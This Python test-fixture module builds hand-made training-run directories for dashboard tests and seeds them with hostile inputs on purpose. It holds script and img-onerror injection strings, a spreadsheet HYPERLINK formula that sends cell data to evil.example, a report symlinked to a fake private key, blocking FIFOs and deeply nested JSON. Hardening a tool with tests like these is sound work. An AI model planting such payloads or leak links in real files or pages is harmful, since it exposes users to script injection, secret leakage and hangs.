"""A run directory written by hand for the dashboard tests: an sft run, a reward run with rankings, a running
ppo run whose files end in half-written lines, an evaluation report, and samples and rankings carrying
script/img injection payloads.
"""

from __future__ import annotations

import json
import time
from pathlib import Path

REPO = Path(__file__).resolve().parents[2]
XSS_SCRIPT = "<script>window.__xss=1</script>"
XSS_IMG = '<img src=x onerror="window.__xss=2">'
SFT_PROMPT = "sort c b a ="


def write_jsonl(path: Path, rows: list[dict], tail: str = "") -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text("".join(json.dumps(r) + "\n" for r in rows) + tail, encoding="utf-8")


def write_json(path: Path, obj: dict) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(json.dumps(obj), encoding="utf-8")


def status(stage: str, name: str, state: str, step: int, parent: str | None = None) -> dict:
    return {
        "stage": stage,
        "name": name,
        "status": state,
        "step": step,
        "started": 1_700_000_000.0,
        "updated": 1_700_000_100.0,
        "stage_dir": None,
        "parent": parent,
        "error": None,
    }


def _sft(root: Path) -> None:
    run = root / "sft" / "alpha"
    write_json(run / "status.json", status("sft", "alpha", "finished", 20))
    write_jsonl(
        run / "metrics.jsonl",
        [
            {"step": 10, "time": 1.0, "sft/loss": 2.0, "sft/lr": 0.001},
            {"step": 20, "time": 2.0, "sft/loss": 1.0, "sft/lr": 0.001},
            {"step": 19, "time": 3.0, "sft/val_loss": 1.5, "epoch": 0.0},
            {"step": 20, "time": 4.0, "sft/exact_match": 0.25},
        ],
    )
    write_jsonl(
        run / "samples.jsonl",
        [
            {"step": 10, "prompt": SFT_PROMPT, "completion": "c b", "mode": "greedy", "score": 0.2},
            {"step": 20, "prompt": SFT_PROMPT, "completion": XSS_SCRIPT, "mode": "greedy", "score": 0.5},
            {"step": 20, "prompt": SFT_PROMPT, "completion": "a b c", "mode": "sampled", "exact_match": True},
            {"step": 20, "prompt": XSS_IMG, "completion": "x y", "mode": "greedy"},
        ],
    )
    write_json(run / "stage" / "manifest.json", {"stage": "sft", "step": 20, "parent": None})


def _reward(root: Path) -> None:
    run = root / "reward" / "rm"
    parent = str(root / "sft" / "alpha" / "stage")
    write_json(run / "status.json", status("reward", "rm", "finished", 30, parent=parent))
    write_jsonl(
        run / "metrics.jsonl",
        [
            {"step": 10, "time": 1.0, "reward/loss": 0.7, "reward/accuracy": 0.5},
            {"step": 20, "time": 2.0, "reward/val_accuracy": 0.6, "reward/val_kendall_tau": 0.2},
            {"step": 30, "time": 3.0, "reward/loss": 0.4, "reward/val_accuracy": 0.75},
        ],
    )
    rows = [
        {
            "step": 20,
            "prompt": "count a a =",
            "responses": ["2", "3", "1"],
            "labeled_rank": [0, 1, 1],
            "scores": [0.9, 0.1, 0.2],
            "kendall_tau": 0.8,
            "pairs_correct": 2,
            "pairs": 2,
        },
        {
            "step": 30,
            "prompt": "add 1 2 =",
            "responses": ["3", XSS_SCRIPT, "4"],
            "labeled_rank": [0, 2, 1],
            "scores": [0.1, 0.9, 0.3],
            "kendall_tau": -1.0,
            "pairs_correct": 0,
            "pairs": 3,
        },
        {
            "step": 30,
            "prompt": "copy a b =",
            "responses": ["a b", "b a"],
            "labeled_rank": [0, 1],
            "scores": [1.0, -1.0],
            "kendall_tau": 1.0,
            "pairs_correct": 1,
            "pairs": 1,
        },
        {
            "step": 30,
            "prompt": "same =",
            "responses": ["x", "y"],
            "labeled_rank": [0, 0],
            "scores": [0.5, 0.5],
            "kendall_tau": None,
            "pairs_correct": 0,
            "pairs": 0,
        },
    ]
    write_jsonl(run / "rankings.jsonl", rows)
    write_json(run / "stage" / "manifest.json", {"stage": "reward", "step": 30, "parent": parent})


ALARM = {
    "name": "kl_high",
    "first_step": 2,
    "step": 4,
    "count": 2,
    "values": {"kl": 12.5, "limit": 12.0},
    "message": f"rollout KL 12.5 is above 2 x the target 6 {XSS_IMG}",
}


def _ppo(root: Path) -> None:
    run = root / "ppo" / "live"
    parent = str(root / "sft" / "alpha" / "stage")
    live = status("ppo", "live", "running", 2, parent=parent)
    live["updated"] = time.time()  # fresh, so the run reads as alive rather than stale
    live["alarms"] = [ALARM]
    write_json(run / "status.json", live)
    write_jsonl(
        run / "metrics.jsonl",
        [
            {"step": 2, "time": 1.0, "ppo/reward_mean": 0.1, "ppo/kl": 0.0, "ppo/kl_coef": 0.1},
            {"step": 4, "time": 2.0, "ppo/reward_mean": 0.3, "ppo/kl": 0.02, "ppo/kl_coef": None},
        ],
        tail='{"step": 6, "time": 3.0, "ppo/rew',
    )
    write_jsonl(
        run / "samples.jsonl",
        [
            {
                "step": 4,
                "prompt": SFT_PROMPT,
                "completion": "a b c",
                "mode": "rollout",
                "reward": 0.9,
                "kl": 0.01,
            }
        ],
        tail='{"step": 6, "prompt": "sort',
    )


def build_runs(root: Path) -> Path:
    _sft(root)
    _reward(root)
    _ppo(root)
    report = root / "eval" / "final" / "report.md"
    report.parent.mkdir(parents=True)
    report.write_text(f"# Evaluation\n\nwin rate 0.61\n{XSS_IMG}\n", encoding="utf-8")
    return root


FORMULA = '=HYPERLINK("http://evil.example/?"&A1, "click")'
SECRET = "-----BEGIN PRIVATE KEY----- not for the dashboard"
DEEP = 100_000  # nesting levels: json.loads raises RecursionError on this


def _nested(depth: int) -> str:
    return '{"a": ' * depth + "1" + "}" * depth


def build_hostile_runs(root: Path, outside: Path) -> Path:
    """`build_runs`, plus what a hostile or careless writer can leave in a runs root (and `outside` it):

    sft/nested (status.json nested 100,000 deep), sft/fifo (status.json is a FIFO), reward/folder (folders named
    metrics.jsonl and rankings.jsonl, a FIFO samples.jsonl), ppo/linked (a link to a run directory outside the root), sft/deep/stage (a manifest nested
    100,000 deep), sft/badmetrics (NaN, a repeated key, float and boolean steps), eval/leak/report.md (the newest
    report, a link to a private key outside the root), and a sample completion that is a spreadsheet formula.
    """
    import os

    build_runs(root)
    outside.mkdir(parents=True, exist_ok=True)
    secret = outside / "id_rsa"
    secret.write_text(SECRET, encoding="utf-8")
    (root / "sft" / "nested").mkdir(parents=True)
    (root / "sft" / "nested" / "status.json").write_text(_nested(DEEP), encoding="utf-8")
    write_jsonl(root / "sft" / "fifo" / "metrics.jsonl", [{"step": 1, "sft/loss": 3.0}])
    os.mkfifo(root / "sft" / "fifo" / "status.json")  # a reader that open()s it waits for a writer forever
    write_json(root / "reward" / "folder" / "status.json", status("reward", "folder", "finished", 1))
    (root / "reward" / "folder" / "metrics.jsonl").mkdir()
    (root / "reward" / "folder" / "rankings.jsonl").mkdir()
    os.mkfifo(root / "reward" / "folder" / "samples.jsonl")
    elsewhere = outside / "run"
    write_json(elsewhere / "status.json", status("ppo", "linked", "finished", 7, parent=str(secret)))
    write_jsonl(elsewhere / "metrics.jsonl", [{"step": 1, "ppo/kl": 0.5}])
    os.symlink(elsewhere, root / "ppo" / "linked")
    deep = root / "sft" / "deep" / "stage" / "manifest.json"
    deep.parent.mkdir(parents=True)
    deep.write_text('{"stage": "sft", "extra": ' + _nested(DEEP) + "}", encoding="utf-8")
    bad = root / "sft" / "badmetrics"
    write_json(bad / "status.json", status("sft", "badmetrics", "finished", 4))
    lines = [
        '{"step": 1, "sft/loss": 1.0}',
        '{"step": 2, "sft/loss": NaN}',
        '{"step": 3, "sft/loss": 0.5, "sft/loss": 0.4}',
        '{"step": 3.5, "sft/loss": 0.3}',
        '{"step": true, "sft/loss": 0.2}',
        '{"step": 4, "sft/loss": 0.1}',
    ]
    (bad / "metrics.jsonl").write_text("\n".join(lines) + "\n", encoding="utf-8")
    write_jsonl(
        bad / "samples.jsonl", [{"step": 4, "prompt": "-1 + 2 =", "completion": FORMULA, "mode": "greedy"}]
    )
    leak = root / "eval" / "leak" / "report.md"
    leak.parent.mkdir(parents=True)
    os.symlink(secret, leak)
    os.utime(leak, follow_symlinks=False)
    return root


def streamlit_command(argv: list[str]) -> tuple[list[str], dict[str, str]]:
    """The streamlit command line and environment `lit-rlhf dashboard <argv>` would exec, read through the real
    command path (jsonargparse, the typed defaults) with the exec itself replaced."""
    from unittest import mock

    from lit_rlhf import dashboard_cmd
    from lit_rlhf.commands import run_command

    calls: list[tuple] = []
    with mock.patch.object(dashboard_cmd.os, "execve", lambda *args: calls.append(args)):
        assert run_command("dashboard", argv, "lit-rlhf") == 0
    ((_, command, env),) = calls
    return command, env
